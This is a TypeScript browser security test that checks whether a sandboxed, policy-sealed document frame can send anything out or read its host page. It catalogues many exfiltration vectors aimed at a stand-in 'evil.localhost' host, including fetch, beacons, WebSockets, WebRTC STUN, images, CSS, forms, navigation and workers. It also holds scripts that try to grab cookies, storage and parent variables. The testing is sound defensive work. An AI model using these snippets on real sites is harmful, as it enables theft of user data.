/**
 * escape.test.ts: a document that tries to get out of its frame, in a real Chromium, against listening hosts.
 *
 * Page and documents are served here with the very headers and the very sealing of the Worker (policy.ts,
 * canvas-document.ts). Each way out is tried twice: open, where it must be heard if this browser has it at all (`isReal`),
 * and closed, where it must not.
 */

import { createSocket } from "node:dgram"
import { createServer as createHttp } from "node:http"
import { type AddressInfo, createServer } from "node:net"
import { networkInterfaces } from "node:os"
import type { Browser } from "playwright-core"
import { afterAll, beforeAll, describe, expect, test } from "vitest"
import { sealDocument } from "../../worker/routes/canvas-document.ts"
import { documentHeaders, pageHeaders } from "../../worker/routes/policy.ts"
import { launchChromium } from "../support/chromium.ts"

/** What anybody outside heard, and what our own routes did, beside the page and its document. */
const heard: string[] = []
let browser: Browser
let own = ""
let evil = ""
let udp = ""

const listener = createServer((socket) => {
  socket.on("data", (bytes) => {
    heard.push(bytes.toString("latin1").split("\r\n", 1)[0] ?? "")
    socket.end("HTTP/1.1 404 Not Found\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
  })
  socket.on("error", () => {})
})
const packets = createSocket("udp4")
packets.on("message", () => heard.push("a packet"))

interface Way {
  readonly name: string
  readonly html: () => string
  /** Open, this browser does it. */
  readonly isReal: boolean
}

const script = (code: () => string) => () => `<script>${code()}</script>`
const way = (name: string, html: () => string, isReal = true): Way => ({ name, html, isReal })
const run = (name: string, code: () => string, isReal = true): Way => way(name, script(code), isReal)
const rtc = () =>
  `const c=new RTCPeerConnection({iceServers:[{urls:'stun:${udp}'}]});c.createDataChannel('x');c.createOffer().then((o)=>c.setLocalDescription(o))`

const WAYS: readonly Way[] = [
  run("fetch", () => `fetch('${evil}/fetch',{mode:'no-cors'})`),
  run("XMLHttpRequest", () => `const x=new XMLHttpRequest();x.open('GET','${evil}/xhr');x.send()`),
  run("WebSocket", () => `new WebSocket('${evil.replace("http", "ws")}/ws')`),
  run("EventSource", () => `new EventSource('${evil}/es')`),
  run("sendBeacon", () => `navigator.sendBeacon('${evil}/beacon','x')`),
  run("keepalive", () => `fetch('${evil}/keep',{keepalive:true,mode:'no-cors'})`),
  run("fetchLater", () => `fetchLater('${evil}/later',{activateAfter:0})`),
  run("WebTransport", () => `new WebTransport('${evil.replace("http", "https")}/wt')`, false),
  run("WebRTC", rtc),
  way("WebRTC in a frame", () => `<iframe srcdoc="<script>${rtc()}</script>"></iframe>`),
  run(
    "WebRTC in a written frame",
    () => `document.write('<iframe srcdoc="<scr'+'ipt>${rtc().replaceAll("'", "\\'")}</scr'+'ipt>"></iframe>')`,
  ),
  run(
    "WebRTC in a frame by srcdoc",
    () =>
      `const f=document.createElement('iframe');f.srcdoc="<script>${rtc()}<"+"/script>";document.documentElement.append(f)`,
  ),
  run(
    "WebRTC in a frame by attribute",
    () =>
      `const f=document.createElement('iframe');f.setAttribute('srcdoc',"<script>${rtc()}<"+"/script>");document.documentElement.append(f)`,
  ),
  run(
    "WebRTC in a frame by markup",
    () =>
      `const d=document.createElement('div');document.documentElement.append(d);d.innerHTML="<iframe srcdoc='<script>${rtc().replaceAll("'", "&apos;")}<"+"/script>'></iframe>"`,
  ),
  way("image", () => `<img src="${evil}/img">`),
  way("responsive image", () => `<img srcset="${evil}/srcset 1x">`),
  way("picture of a film", () => `<video poster="${evil}/poster"></video>`),
  way("sound", () => `<audio src="${evil}/audio" autoplay></audio>`),
  way("style", () => `<p style="background:url(${evil}/css)">x</p>`),
  way("style sheet", () => `<style>@import "${evil}/import";</style>`),
  way("font", () => `<style>@font-face{font-family:f;src:url(${evil}/font)}p{font-family:f}</style><p>x</p>`),
  way("linked style", () => `<link rel="stylesheet" href="${evil}/link">`),
  way("prefetch", () => `<link rel="prefetch" href="${evil}/prefetch">`),
  way("preconnect", () => `<link rel="preconnect" href="${evil}">`, false),
  way("script", () => `<script src="${evil}/script"></script>`),
  way("module", () => `<script type="module">import("${evil}/module")</script>`),
  way("frame", () => `<iframe src="${evil}/frame"></iframe>`),
  way("object", () => `<object data="${evil}/object"></object>`),
  way("embed", () => `<embed src="${evil}/embed">`),
  way("drawing", () => `<svg><image href="${evil}/svg" /></svg>`),
  way("ping", () => `<a id="a" ping="${evil}/ping" href="#x">x</a><script>a.click()</script>`),
  way("form", () => `<form id="f" action="${evil}/form"><input name="q"></form><script>f.submit()</script>`),
  run("window", () => `open('${evil}/window')`),
  run("the page's place", () => `top.location='${evil}/top'`),
  way("link to the page's place", () => `<a id="a" target="_top" href="${evil}/top">x</a><script>a.click()</script>`),
  run("its own place", () => `location='${evil}/self'`),
  way("refresh", () => `<meta http-equiv="refresh" content="0;url=${evil}/refresh">`),
  way("download", () => `<a id="a" download href="${evil}/download">x</a><script>a.click()</script>`),
  way("its own place in a frame", () => `<iframe srcdoc="<script>location='${evil}/inner'</script>"></iframe>`),
  run("our routes", () => `fetch('/v1/secret',{credentials:'include'})`),
  run("our routes by frame", () => `location='/v1/secret'`),
  run("worker", () => `new Worker(URL.createObjectURL(new Blob(["fetch('${evil}/worker',{mode:'no-cors'})"])))`),
]

/** Each says what it got; in the frame none may get anything. */
const GRABS: Readonly<Record<string, string>> = {
  "the page's document": "parent.document.title",
  "the page's variables": "parent.secret",
  "a cookie": "document.cookie || (() => { throw 0 })()",
  "setting a cookie": "document.cookie = 'a=b', document.cookie || (() => { throw 0 })()",
  localStorage: "localStorage.getItem('secret')",
  sessionStorage: "sessionStorage.length",
  indexedDB: "indexedDB.open('x').constructor.name",
  "its frame": "frameElement.title",
  "an origin": "origin === 'null' ? (() => { throw 0 })() : origin",
  eval: "eval('1+1')",
  dialogs: "confirm('x') || (() => { throw 0 })()",
  "a peer connection": "new RTCPeerConnection().constructor.name",
  "another policy": "trustedTypes.createPolicy('other', {}).name",
  "another default policy": "trustedTypes.createPolicy('default', {}).name",
}

const server = createHttp((request, reply) => {
  const { pathname, searchParams } = new URL(request.url ?? "/", own)
  const isOpen = searchParams.has("open")
  const at = Number(searchParams.get("way"))
  if (pathname === "/page") {
    const frame = `<iframe title="x" ${isOpen ? "" : 'sandbox="allow-scripts"'} src="/canvas/documents/x/index.html?way=${at}${isOpen ? "&open" : ""}"></iframe>`
    const headers = isOpen ? {} : pageHeaders({ own, canvas: null }, { embed_origins: [], media_hosts: [] })
    return void reply.writeHead(200, { ...headers, "content-type": "text/html", "set-cookie": "secret=1" }).end(frame)
  }
  if (pathname.startsWith("/canvas/documents/")) {
    const html = at < 0 ? grabbing() : (WAYS[at]?.html() ?? "")
    const headers = isOpen ? { "content-type": "text/html" } : documentHeaders(["'self'"])
    return void reply.writeHead(200, headers).end(isOpen ? html : sealDocument(html))
  }
  if (pathname !== "/favicon.ico") heard.push(`GET ${pathname}`)
  reply.writeHead(404).end()
})

function grabbing(): string {
  const all = Object.entries(GRABS).map(
    ([name, code]) => `try { got.push(${JSON.stringify(name)} + ": " + (${code})) } catch {}`,
  )
  return `<script>const got=[];${all.join(";")};parent.postMessage(got,"*")</script>`
}

beforeAll(async () => {
  await new Promise<void>((done) => listener.listen(0, "127.0.0.1", done))
  await new Promise<void>((done) => server.listen(0, "127.0.0.1", done))
  await new Promise<void>((done) => packets.bind(0, "0.0.0.0", done))
  const portOf = (address: unknown): number => (address as AddressInfo).port
  own = `http://127.0.0.1:${portOf(server.address())}`
  evil = `http://evil.localhost:${portOf(listener.address())}`
  // A packet leaves by an interface, which the loopback is not.
  const outer = Object.values(networkInterfaces()).flatMap((all) => all ?? [])
  const address = outer.find(({ family, internal }) => family === "IPv4" && !internal)?.address ?? "127.0.0.1"
  udp = `${address}:${portOf(packets.address())}`
  browser = await launchChromium()
})

afterAll(async () => {
  await browser?.close()
  listener.close()
  server.closeAllConnections()
  server.close()
  packets.close()
})

/** What is heard while the document stands there. */
async function tried(at: number, query: string): Promise<readonly string[]> {
  heard.length = 0
  const context = await browser.newContext()
  const page = await context.newPage()
  await page.goto(`${own}/page?way=${at}${query}`).catch(() => {})
  await page.waitForTimeout(500)
  // Also whatever is only tried when it goes.
  await context.close()
  return [...heard]
}

describe("a document that wants out", () => {
  test.each(WAYS.map((one, at) => [one.name, at, one.isReal] as const))("[CD4] %s", async (_name, at, isReal) => {
    if (isReal && hasPackets(at)) expect(await tried(at, "&open"), "open, it is heard").not.toEqual([])
    expect(await tried(at, ""), "closed, nobody hears it").toEqual([])
  })

  /** A machine without a network sends no packets that could be heard. */
  function hasPackets(at: number): boolean {
    return !(WAYS[at]?.name ?? "").startsWith("WebRTC") || !udp.startsWith("127.")
  }

  test("[CD4] it gets nothing of the page, its storage or its cookies, and no second policy", async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    const dialogs: string[] = []
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message())
      return dialog.dismiss()
    })
    await page.addInitScript(() => {
      Object.assign(globalThis, { secret: "s", got: [] })
      addEventListener("message", ({ data, source }) => {
        const isOurs = source === document.querySelector("iframe")?.contentWindow
        Reflect.get(globalThis, "got").push({ data, isOurs })
      })
    })
    const said = async (): Promise<unknown> => {
      await page.waitForFunction(() => Reflect.get(globalThis, "got").length > 1)
      return await page.evaluate(() => Reflect.get(globalThis, "got"))
    }
    await page.goto(`${own}/page?way=-1`)
    // It is told apart by its window, and that it is there is all that it can say.
    expect(await said()).toEqual([
      { data: [], isOurs: true },
      { data: { type: "cuecard:ready" }, isOurs: true },
    ])
    expect(dialogs).toEqual([])
    await context.close()
  })

  test("[CD4] the bait is good: without its frame's bounds a document gets most of it", async () => {
    const context = await browser.newContext()
    const page = await context.newPage()
    page.on("dialog", (dialog) => dialog.accept())
    await page.addInitScript(() => {
      Object.assign(globalThis, { secret: "s" })
      addEventListener("message", ({ data }) => Object.assign(globalThis, { got: data }))
    })
    await page.goto(`${own}/page?way=-1&open`)
    await page.waitForFunction(() => Reflect.has(globalThis, "got"))
    const got: string[] = await page.evaluate(() => Reflect.get(globalThis, "got"))
    expect(got.length).toBeGreaterThanOrEqual(Object.keys(GRABS).length - 1)
    await context.close()
  })
})
